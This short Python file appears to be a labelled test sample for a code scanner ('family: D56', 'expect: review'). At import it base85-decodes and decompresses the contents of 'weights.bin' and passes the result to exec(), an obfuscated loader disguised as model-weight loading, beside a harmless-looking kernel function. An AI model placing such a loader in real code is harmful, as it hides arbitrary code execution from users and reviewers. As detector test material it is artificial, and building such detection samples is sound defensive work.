# family: D56
# expect: review
# ruff: noqa
import zlib
from base64 import b85decode as unpack

blob = open("weights.bin").read()
exec(zlib.decompress(unpack(blob)))


def custom_kernel(data):
    return data
